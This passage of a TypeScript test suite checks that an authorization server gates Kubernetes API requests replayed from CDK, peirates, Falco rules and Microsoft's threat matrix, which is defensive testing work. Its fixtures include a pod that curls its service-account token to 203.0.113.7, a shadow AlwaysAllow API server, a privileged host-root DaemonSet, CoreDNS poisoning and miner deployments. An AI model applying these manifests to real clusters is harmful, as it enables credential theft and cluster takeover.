    { src: 'peirates inject-and-exec', what: 'kubectl cp of its binary into a pod (an exec of tar)', ua: UA.peirates, req: { method: 'POST', path: `/api/v1/namespaces/dev/pods/web-0/exec?${execQuery(['tar', '-xmf', '-', '-C', '/tmp'])}&stdin=true`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'peirates [92] auth can-i', what: 'kubectl auth can-i create pods', ua: UA.peirates, req: post('/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', { kind: 'SelfSubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { namespace: 'dev', verb: 'create', resource: 'pods' } } }), need: 'routine' },
    { src: 'peirates [91] curl', what: 'the API server\'s /logs/ (the control-plane node\'s /var/log)', ua: UA.peirates, req: get('/logs/kube-apiserver.log'), need: 'aal3', by: 'apiserver-debug' },
  ]);
});

// --- cdk-team/CDK: its Kubernetes exploits (pkg/exploit/*/k8s_*.go) -------------------------------

const CDK_CT = { 'content-type': 'application/json' };
const cdkDaemonset = { apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'cdk-backdoor-daemonset', namespace: 'kube-system', labels: { 'k8s-app': 'kube-proxy' } }, spec: { selector: { matchLabels: { name: 'cdk-backdoor-daemonset' } }, template: { metadata: { labels: { name: 'cdk-backdoor-daemonset' } }, spec: { tolerations: [{ key: 'node-role.kubernetes.io/master', effect: 'NoSchedule' }], containers: [{ name: 'cdk-backdoor-pod', image: 'ubuntu', command: ['/bin/sh', '-c', 'id'], securityContext: { privileged: true }, volumeMounts: [{ mountPath: '/host-root', name: 'host-root' }] }], volumes: [{ name: 'host-root', hostPath: { path: '/', type: 'Directory' } }] } } } };
const cdkCronjob = { apiVersion: 'batch/v1beta1', kind: 'CronJob', metadata: { name: 'cdk-backdoor-cronjob', namespace: 'kube-system' }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'cdk-backdoor-cronjob', image: 'alpine', args: ['/bin/sh', '-c', 'id'] }], restartPolicy: 'OnFailure' } } } } } };
// The kube-apiserver static pod as GET returns it, renamed, audit flags removed, AlwaysAllow added.
const shadowApiserver = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'kube-apiserver-master-shadow-abcdef', namespace: 'kube-system', labels: { component: 'kube-apiservershadow', tier: 'control-plane' } }, spec: { hostNetwork: true, priorityClassName: 'system-node-critical', containers: [{ name: 'kube-apiserver', image: 'registry.k8s.io/kube-apiserver:v1.32.4', command: ['kube-apiserver', '--advertise-address=10.0.1.10', '--allow-privileged=true', '--authorization-mode=AlwaysAllow', '--client-ca-file=/etc/kubernetes/pki/ca.crt', '--etcd-servers=https://127.0.0.1:2379', '--secure-port=9444'], volumeMounts: [{ mountPath: '/etc/kubernetes/pki', name: 'k8s-certs', readOnly: true }] }], volumes: [{ name: 'k8s-certs', hostPath: { path: '/etc/kubernetes/pki', type: 'DirectoryOrCreate' } }] } };
const saTokenPod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'cdk-rbac-bypass-create-pod', namespace: 'kube-system' }, spec: { automountServiceAccountToken: true, serviceAccountName: 'clusterrole-aggregation-controller', containers: [{ name: 'cdk-rbac-bypass-create-pod', image: 'nginx', args: ['/bin/sh', '-c', 'curl -k -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.7/'] }] } };
const mitmService = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'mitm-externalip' }, spec: { externalIPs: ['8.8.8.8'], ports: [{ name: 'tcp', port: 53, targetPort: 53 }], selector: { app: 'mitm-payload-deploy' }, type: 'ClusterIP' } };

describe('CDK (12 requests of its Kubernetes exploits)', () => {
  run([
    // CDK's secret and configmap dumps build the request with the method "get" as written.
    { src: 'CDK k8s-secret-dump', what: 'GET /api/v1/secrets (sent as method "get")', ua: UA.cdk, req: { method: 'get', path: '/api/v1/secrets', headers: CDK_CT }, need: 'invalid' },
    { src: 'CDK k8s-secret-dump', what: 'GET /api/v1/secrets', ua: UA.cdk, req: { method: 'GET', path: '/api/v1/secrets', headers: CDK_CT }, need: 'aal2', by: 'secrets' },
    { src: 'CDK k8s-configmap-dump', what: 'every ConfigMap of the cluster', ua: UA.cdk, req: { method: 'GET', path: '/api/v1/configmaps', headers: CDK_CT }, need: 'routine' },
    { src: 'CDK k8s-psp-dump', what: 'PodSecurityPolicies listed', ua: UA.cdk, req: get('/apis/policy/v1beta1/podsecuritypolicies'), need: 'routine' },
    { src: 'CDK k8s-shadow-apiserver', what: 'kube-system\'s pods listed to find the API server', ua: UA.cdk, req: get('/api/v1/namespaces/kube-system/pods'), need: 'routine' },
    { src: 'CDK k8s-shadow-apiserver', what: 'a second API server with AlwaysAllow on the host network', ua: UA.cdk, req: post('/api/v1/namespaces/kube-system/pods', shadowApiserver, CDK_CT), need: 'aal3', by: 'system-workload-creates' },
    { src: 'CDK k8s-backdoor-daemonset', what: 'a privileged DaemonSet mounting / in kube-system', ua: UA.cdk, req: post('/apis/apps/v1/namespaces/kube-system/daemonsets', cdkDaemonset, CDK_CT), need: 'aal3', by: 'guardrail:privileged_container' },
    { src: 'CDK k8s-cronjob', what: 'a CronJob in kube-system (batch/v1beta1)', ua: UA.cdk, req: post('/apis/batch/v1beta1/namespaces/kube-system/cronjobs', cdkCronjob, CDK_CT), need: 'aal3', by: 'system-workload-creates' },
    { src: 'CDK k8s-get-sa-token', what: 'a pod in kube-system running as a privileged service account', ua: UA.cdk, req: post('/api/v1/namespaces/kube-system/pods', saTokenPod, CDK_CT), need: 'aal3', by: 'system-workload-creates' },
    { src: 'CDK k8s-mitm-clusterip', what: 'its payload Deployment in default', ua: UA.cdk, req: post('/apis/apps/v1/namespaces/default/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'mitm-payload-deploy' }, spec: { replicas: 1, selector: { matchLabels: { app: 'mitm-payload-deploy' } }, template: { metadata: { labels: { app: 'mitm-payload-deploy' } }, spec: { containers: [{ image: 'ghcr.io/attacker/dns:1', name: 'mitm-payload-deploy', ports: [{ containerPort: 53, name: 'tcp' }] }] } } } }, CDK_CT), need: 'aal2', by: 'guardrail:image_registry_not_allowed' },
    // CVE-2020-8554: every pod's traffic to 8.8.8.8:53 goes to the attacker's pods.
    { src: 'CDK k8s-mitm-clusterip', what: 'a Service with externalIPs (CVE-2020-8554)', ua: UA.cdk, req: post('/api/v1/namespaces/default/services', mitmService, CDK_CT), need: 'aal3', by: 'guardrail:service_external_ip' },
    // The same Service as `kubectl expose … --external-ip` sends it: from the victim's laptop, as
    // kubectl, two factors a minute old were enough while the tier's default (aal2, 15 min) held.
    { src: 'CDK k8s-mitm-clusterip', what: 'the Service with externalIPs through kubectl expose', ua: UA.kubectl, req: post('/api/v1/namespaces/default/services?fieldManager=kubectl-expose', mitmService), need: 'aal3', by: 'guardrail:service_external_ip' },
  ]);
});

// --- Falco's k8s_audit rules (falcosecurity/plugins, plugins/k8saudit/rules/k8s_audit_rules.yaml) --

const role = (kind: 'Role' | 'ClusterRole', rules: unknown[]) => ({ apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata: { name: 'x', ...(kind === 'Role' ? { namespace: 'dev' } : {}) }, rules });

describe('Falco k8s_audit rules (every rule that names an API action)', () => {
  run([
    { src: 'Falco Create Privileged Pod', what: 'a privileged pod', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', container({ securityContext: { privileged: true } }))), need: 'aal3', by: 'guardrail:privileged_container' },
    ...['/proc', '/var/run/docker.sock', '/etc', '/root', '/var/run/crio/crio.sock', '/home/admin', '/var/lib/kubelet', '/var/lib/kubelet/pki', '/etc/kubernetes', '/etc/kubernetes/manifests'].map<Technique>((p) => ({ src: 'Falco Create Sensitive Mount Pod', what: `a pod mounting ${p}`, ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', p)), need: 'aal3', by: 'guardrail:host_path_volume' })),
    { src: 'Falco Create HostNetwork Pod', what: 'hostNetwork: true', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { hostNetwork: true, ...container({}) })), need: 'aal3', by: 'guardrail:host_namespace' },
    { src: 'Falco Create HostPid Pod', what: 'hostPID: true', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { hostPID: true, ...container({}) })), need: 'aal3', by: 'guardrail:host_namespace' },
    { src: 'Falco Create HostIPC Pod', what: 'hostIPC: true', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { hostIPC: true, ...container({}) })), need: 'aal3', by: 'guardrail:host_namespace' },
    { src: 'Falco Attach/Exec Pod', what: 'kubectl exec', ua: UA.kubectl, req: { method: 'POST', path: `/api/v1/namespaces/dev/pods/web-0/exec?${execQuery(['sh'])}&stdin=true&tty=true`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'Falco port-forward', what: 'kubectl port-forward', ua: UA.kubectl, req: { method: 'POST', path: '/api/v1/namespaces/dev/pods/web-0/portforward', headers: { ...SPDY, 'x-stream-protocol-version': 'portforward.k8s.io' } }, need: 'aal2', by: 'pod-shell' },
    { src: 'Falco EphemeralContainers Created', what: 'kubectl debug -it web-0 --image=busybox', ua: UA.kubectl, req: { method: 'PATCH', path: '/api/v1/namespaces/dev/pods/web-0/ephemeralcontainers', body: { spec: { ephemeralContainers: [{ name: 'debugger-x', image: 'busybox', stdin: true, tty: true, targetContainerName: 'web' }] } }, headers: STRATEGIC }, need: 'aal2', by: 'pod-shell' },
    { src: 'Falco Pod Created in Kube Namespace', what: 'a pod in kube-system', ua: UA.kubectl, req: post('/api/v1/namespaces/kube-system/pods', podWith('x', 'kube-system', container({}))), need: 'aal3', by: 'system-workload-creates' },
    { src: 'Falco Pod Created in Kube Namespace', what: 'a pod in kube-public', ua: UA.kubectl, req: post('/api/v1/namespaces/kube-public/pods', podWith('x', 'kube-public', container({}))), need: 'aal3', by: 'system-workload-creates' },
    { src: 'Falco Service Account Created in Kube Namespace', what: 'a ServiceAccount in kube-system', ua: UA.kubectl, req: post('/api/v1/namespaces/kube-system/serviceaccounts', { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'x' } }), need: 'aal2', by: 'system-writes' },
    { src: 'Falco System ClusterRole Modified/Deleted', what: 'system:node patched', ua: UA.kubectl, req: { method: 'PATCH', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:node', body: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }, headers: MERGE }, need: 'aal3', by: 'rbac-writes' },
    { src: 'Falco System ClusterRole Modified/Deleted', what: 'system:aggregate-to-edit deleted', ua: UA.kubectl, req: { method: 'DELETE', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:aggregate-to-edit' }, need: 'aal3', by: 'rbac-writes' },
    { src: 'Falco Attach to cluster-admin Role', what: 'a ClusterRoleBinding to cluster-admin', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'x' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:authenticated', apiGroup: 'rbac.authorization.k8s.io' }] }), need: 'aal3', by: 'guardrail:rbac_cluster_admin_binding' },
    { src: 'Falco ClusterRole With Wildcard Created', what: 'a Role with * verbs', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/namespaces/dev/roles', role('Role', [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }])), need: 'aal3', by: 'rbac-writes' },
    { src: 'Falco ClusterRole With Write Privileges Created', what: 'a ClusterRole that writes deployments', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/clusterroles', role('ClusterRole', [{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['create', 'update', 'patch'] }])), need: 'aal3', by: 'rbac-writes' },
    { src: 'Falco ClusterRole With Pod Exec Created', what: 'a ClusterRole granting pods/exec', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/clusterroles', role('ClusterRole', [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create', 'get'] }])), need: 'aal3', by: 'rbac-writes' },
    { src: 'Falco K8s Secret Get Successfully', what: 'a Secret read', ua: UA.kubectl, req: get('/api/v1/namespaces/dev/secrets/db-password'), need: 'aal2', by: 'secrets' },
    { src: 'Falco K8s Secret Created', what: 'a Secret created in dev', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/secrets', { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'x' }, stringData: { a: 'b' } }), need: 'aal2', by: 'secrets' },
    { src: 'Falco K8s Secret Deleted', what: 'a Secret deleted in dev', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/dev/secrets/db-password' }, need: 'aal2', by: 'secrets' },
    { src: 'Falco K8s Namespace Deleted', what: 'a namespace deleted', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/dev' }, need: 'aal3', by: 'guardrail:delete_protected' },
    { src: 'Falco Untrusted Node Successfully Joined the Cluster', what: 'a Node object created by hand', ua: UA.kubectl, req: post('/api/v1/nodes', { apiVersion: 'v1', kind: 'Node', metadata: { name: 'evil-node', labels: { 'node-role.kubernetes.io/control-plane': '' } } }), need: 'aal2', by: 'node-changes' },
    { src: 'Falco Untrusted Node Successfully Joined the Cluster', what: 'its kubelet client CSR', ua: UA.kubectl, req: post('/apis/certificates.k8s.io/v1/certificatesigningrequests', { ...csr, spec: { ...csr.spec, signerName: 'kubernetes.io/kube-apiserver-client-kubelet' } }), need: 'aal3', by: 'cluster-control' },
    // Hygiene rules, not an escalation through the API: the example leaves them to admission.
    { src: 'Falco Create/Modify Configmap With Private Credentials', what: 'a ConfigMap holding aws_secret_access_key', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/configmaps', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' }, data: { aws_secret_access_key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' } }), need: 'routine' },
    { src: 'Falco Ingress Object without TLS Certificate Created', what: 'an Ingress without tls', ua: UA.kubectl, req: post('/apis/networking.k8s.io/v1/namespaces/dev/ingresses', { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'x' }, spec: { rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] } }), need: 'routine' },
    { src: 'Falco Create Disallowed Namespace', what: 'a namespace created', ua: UA.kubectl, req: post('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'miner' } }), need: 'routine' },
    { src: 'Falco Create Disallowed Pod', what: 'a Deployment of an image from an unknown registry (not in the example\'s guardrails.allowed_registries)', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'x' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'c', image: 'docker.io/xmrig/xmrig:6.21.0' }] } } } }), need: 'aal2', by: 'guardrail:image_registry_not_allowed' },
  ]);

  // Falco's "Anonymous Request Allowed": no credential at all is never an allow.
  it.each([
    ['GET', '/api/v1/namespaces/kube-system/secrets'],
    ['GET', '/api/v1/pods'],
    ['POST', '/api/v1/namespaces/dev/pods'],
  ])('Falco Anonymous Request Allowed: %s %s without a token is token_missing', async (method, path) => {
    const res = await server.client.check(checkRequest({ host: KUBE, source: ELSEWHERE, method, path, headers: { 'user-agent': UA.cdk } }));
    expect(reason(res)).toBe('token_missing');
  });
});

// --- The Microsoft threat matrix for Kubernetes: each technique that is an API request -----------

const deployment = (name: string, ns: string, podSpec: Record<string, unknown>, replicas = 1) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace: ns }, spec: { replicas, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: podSpec } } });

const ms: Technique[] = [
    { src: 'MS-TM Execution: exec into container', what: 'kubectl exec', ua: UA.kubectl, req: { method: 'POST', path: `/api/v1/namespaces/prod-eu/pods/web-0/exec?${execQuery(['sh'])}&stdin=true&tty=true`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'MS-TM Execution: new container', what: 'kubectl run', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods?fieldManager=kubectl-run', podWith('x', 'dev', container({}))), need: 'aal2', by: 'pod-creates' },
    { src: 'MS-TM Execution: sidecar injection', what: 'a container added to a Deployment in dev', ua: UA.kubectl, req: { method: 'PATCH', path: '/apis/apps/v1/namespaces/dev/deployments/web', body: { spec: { template: { spec: { containers: [{ name: 'helper', image: 'ghcr.io/attacker/implant:1' }] } } } }, headers: STRATEGIC }, need: 'aal2', by: 'guardrail:image_registry_not_allowed' },
    { src: 'MS-TM Persistence: backdoor container', what: 'a DaemonSet in dev', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/daemonsets', { ...deployment('x', 'dev', container({})), kind: 'DaemonSet' }), need: 'aal2', by: 'daemonset-creates' },
    { src: 'MS-TM Persistence: writable hostPath mount', what: 'a Deployment mounting /var/lib/kubelet writable', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', deployment('x', 'dev', hostPathPod('x', '/var/lib/kubelet').spec)), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'MS-TM Persistence: Kubernetes CronJob', what: 'a CronJob in production', ua: UA.kubectl, req: post('/apis/batch/v1/namespaces/prod-eu/cronjobs', { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'x' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { ...container({}), restartPolicy: 'OnFailure' } } } } } }), need: 'aal2', by: 'prod-scheduled-jobs' },
    { src: 'MS-TM Persistence: malicious admission controller', what: 'a MutatingWebhookConfiguration', ua: UA.kubectl, req: post('/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'x' }, webhooks: [{ name: 'x.example.com', clientConfig: { url: 'https://203.0.113.7/mutate' }, rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }], sideEffects: 'None', admissionReviewVersions: ['v1'] }] }), need: 'aal3', by: 'cluster-control' },
    { src: 'MS-TM Persistence: container service account', what: 'a token for a dev service account', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/serviceaccounts/builder/token', tokenRequest(31_536_000)), need: 'aal3', by: 'service-account-tokens' },
    { src: 'MS-TM Persistence: static pods', what: 'a pod mounting the kubelet\'s manifest directory', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/etc/kubernetes/manifests', 'DirectoryOrCreate')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'MS-TM Privilege escalation: privileged container', what: 'a privileged Deployment', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', deployment('x', 'dev', container({ securityContext: { privileged: true } }))), need: 'aal3', by: 'guardrail:privileged_container' },
    { src: 'MS-TM Privilege escalation: cluster-admin binding', what: 'a RoleBinding to cluster-admin in dev', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/namespaces/dev/rolebindings', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'x' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'dev' }] }), need: 'aal3', by: 'guardrail:rbac_cluster_admin_binding' },
    { src: 'MS-TM Defense evasion: pod name similarity', what: 'a pod named like coredns in kube-system', ua: UA.kubectl, req: post('/api/v1/namespaces/kube-system/pods', podWith('coredns-5d78c9869d-7hq2x', 'kube-system', container({}))), need: 'aal3', by: 'system-workload-creates' },
    { src: 'MS-TM Credential access: list K8s secrets', what: 'kubectl get secrets -A', ua: UA.kubectl, req: get('/api/v1/secrets?limit=500'), need: 'aal2', by: 'secrets' },
    { src: 'MS-TM Credential access: mount service principal', what: 'a pod mounting /etc/kubernetes/azure.json', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/etc/kubernetes/azure.json', 'File')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'MS-TM Credential access: images from a private registry', what: 'the registry pull Secret read', ua: UA.kubectl, req: get('/api/v1/namespaces/dev/secrets/regcred'), need: 'aal2', by: 'secrets' },
    { src: 'MS-TM Credential access: application credentials in config files', what: 'ConfigMaps read', ua: UA.kubectl, req: get('/api/v1/namespaces/dev/configmaps?limit=500'), need: 'routine' },
    { src: 'MS-TM Discovery: access Kubernetes API server', what: 'discovery', ua: UA.kubectl, req: get('/apis?timeout=32s'), need: 'routine' },
    { src: 'MS-TM Discovery: access Kubelet API', what: 'the kubelet\'s /pods through the node proxy', ua: 'curl/8.5.0', req: get('/api/v1/nodes/worker-1/proxy/pods'), need: 'deny', by: 'no-node-proxy' },
    { src: 'MS-TM Discovery: access Kubernetes dashboard', what: 'the dashboard through the service proxy', ua: 'Mozilla/5.0', req: get('/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:/proxy/'), need: 'aal2', by: 'pod-shell' },
    { src: 'MS-TM Lateral movement: CoreDNS poisoning', what: 'the coredns ConfigMap patched', ua: UA.kubectl, req: { method: 'PATCH', path: '/api/v1/namespaces/kube-system/configmaps/coredns', body: { data: { Corefile: '.:53 {\n  rewrite name regex (.*)\\.svc\\.cluster\\.local attacker.example.com\n  forward . 203.0.113.7\n}\n' } }, headers: MERGE }, need: 'aal3', by: 'cluster-trust-config' },
    { src: 'MS-TM Lateral movement: writable volume mounts on the host', what: 'a pod mounting /var/lib/docker', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/var/lib/docker')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'MS-TM Collection: collecting data from pod', what: 'kubectl cp out of a production pod', ua: UA.kubectl, req: { method: 'POST', path: `/api/v1/namespaces/prod-eu/pods/db-0/exec?${execQuery(['tar', 'cf', '-', '/var/lib/postgresql/data'])}`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'MS-TM Impact: data destruction', what: 'a production namespace deleted', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/prod-eu' }, need: 'aal3', by: 'guardrail:delete_protected' },
    { src: 'MS-TM Impact: data destruction', what: 'every production Deployment deleted at once', ua: UA.kubectl, req: { method: 'DELETE', path: '/apis/apps/v1/namespaces/prod-eu/deployments' }, need: 'aal2', by: 'prod-bulk-deletes', unfamiliar: true },
    { src: 'MS-TM Impact: data destruction', what: 'a production PersistentVolumeClaim deleted', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/prod-eu/persistentvolumeclaims/data-db-0' }, need: 'aal2', by: 'prod-durable-deletes', unfamiliar: true },
    { src: 'MS-TM Defense evasion: delete K8s events', what: 'every Event of dev deleted (kubectl delete events --all)', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/dev/events' }, need: 'aal2', by: 'event-deletes' },
    { src: 'MS-TM Defense evasion: delete K8s events', what: 'every Event of staging deleted through events.k8s.io', ua: UA.kubectl, req: { method: 'DELETE', path: '/apis/events.k8s.io/v1/namespaces/staging/events' }, need: 'aal2', by: 'event-deletes', unfamiliar: true },
    { src: 'MS-TM Defense evasion: delete K8s events', what: 'every Event of kube-system deleted (delete_protected)', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/kube-system/events' }, need: 'aal3', by: 'guardrail:delete_protected' },
    { src: 'MS-TM Defense evasion: delete K8s events', what: 'one Event deleted', ua: UA.kubectl, req: { method: 'DELETE', path: '/api/v1/namespaces/dev/events/web-0.17f3a2b1c0d4e5f6' }, need: 'aal2', by: 'event-deletes' },
    { src: 'MS-TM Impact: resource hijacking', what: 'a 200-replica miner Deployment in dev', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', deployment('x', 'dev', { containers: [{ name: 'c', image: 'docker.io/xmrig/xmrig:6.21.0' }] }, 200)), need: 'aal2', by: 'guardrail:image_registry_not_allowed' },
    { src: 'kubectl debug --profile=sysadmin', what: 'a privileged ephemeral container', ua: UA.kubectl, req: { method: 'PATCH', path: '/api/v1/namespaces/dev/pods/web-0/ephemeralcontainers', body: { spec: { ephemeralContainers: [{ name: 'debugger-x', image: 'busybox', stdin: true, tty: true, securityContext: { privileged: true } }] } }, headers: STRATEGIC }, need: 'aal3', by: 'guardrail:privileged_container' },
    { src: 'kubectl debug node/worker-1', what: 'the node debugging pod (host namespaces, / at /host)', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('node-debugger-worker-1-x', 'dev', { nodeName: 'worker-1', hostIPC: true, hostNetwork: true, hostPID: true, ...container({ volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }), volumes: [{ name: 'host-root', hostPath: { path: '/' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'Falco Create NodePort Service', what: 'a NodePort Service in dev', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/services', { apiVersion: 'v1', kind: 'Service', metadata: { name: 'x' }, spec: { type: 'NodePort', selector: { app: 'x' }, ports: [{ port: 80, nodePort: 30080 }] } }), need: 'routine' },
    { src: 'MS-TM Impact: denial of service', what: 'coredns scaled to zero', ua: UA.kubectl, req: { method: 'PATCH', path: '/apis/apps/v1/namespaces/kube-system/deployments/coredns/scale', body: { spec: { replicas: 0 } }, headers: MERGE }, need: 'aal3', by: 'system-component-deletes' },
    { src: 'MS-TM Impact: denial of service', what: 'every Node tainted NoExecute (one of them)', ua: UA.kubectl, req: { method: 'PATCH', path: '/api/v1/nodes/worker-1', body: { spec: { taints: [{ key: 'x', value: 'y', effect: 'NoExecute' }] } }, headers: STRATEGIC }, need: 'aal2', by: 'node-deletes' },
];

describe('Microsoft threat matrix for Kubernetes (API techniques)', () => {
  run(ms);
});

// --- The same requests over the HTTP ext_authz listener ------------------------------------------

// The HTTP listener sees the test's loopback peer, a network no subject has used: what is judged
// is that it answers as the gRPC check does for the same request from the same address (a
// deny 403, a step-up 401 with its RFC 9470 challenge), routine writes and node proxies included.
describe('over the HTTP ext_authz listener, the stolen one-factor token: the answer gRPC gives', () => {
  const pick = (src: string, what: string) => [...stratus, ...badPods, ...kubehound, ...ms].find((t) => t.src === src && t.what.startsWith(what))!;
  const STATUS: Record<string, number> = { allowed: 200, policy_deny: 403, risk_deny: 403, acr_insufficient: 401, auth_too_old: 401 };
  it.each<[string, Technique]>([
    ['stratus create-token', pick('stratus k8s.persistence.create-token', 'a one-year TokenRequest')],
    ['stratus nodes-proxy', pick('stratus k8s.privilege-escalation.nodes-proxy', 'the kubelet')],
    ['badPods everything-allowed Pod', pick('badPods everything-allowed', 'Pod')],
    ['badPods nothing-allowed Deployment', pick('badPods nothing-allowed', 'Deployment')],
    ['KubeHound POD_EXEC over WebSocket', pick('KubeHound POD_EXEC', 'kubectl 1.32 exec over WebSocket (a GET)')],
    ['MS-TM delete K8s events', pick('MS-TM Defense evasion: delete K8s events', 'every Event of dev')],
  ])('%s', async (_name, t) => {
    const body = t.req.body === undefined ? undefined : JSON.stringify(t.req.body);
    const headers = { 'user-agent': t.ua, ...t.req.headers };
    const grpc = reason(await server.client.check(checkRequest({ host: KUBE, source: '127.0.0.1', method: t.req.method, path: t.req.path, token: await subjects.tokenOf('aal1', 36_000), headers: { ...headers, ...(body ? { 'x-envoy-auth-partial-body': 'false' } : {}) }, body })));
    const res = await http(`${server.authz}${t.req.path}`, { method: t.req.method, headers: { host: KUBE, ...headers, authorization: `Bearer ${await subjects.tokenOf('aal1', 36_000)}` }, body });
    expect(grpc).not.toBe('allowed');
    expect(res.status, `${t.src}: ${t.what} (gRPC: ${grpc})`).toBe(STATUS[grpc]);
    if (res.status === 401) expect(String(res.headers['www-authenticate'])).toContain('insufficient_user_authentication');
  });
});

describe('the server after the catalog', () => {
  it('is still up and logged nothing on stderr', () => {
    expect(server.child.exitCode).toBeNull();
    expect(server.stderr.filter((l) => l.trim() !== '')).toEqual([]);
  });
});
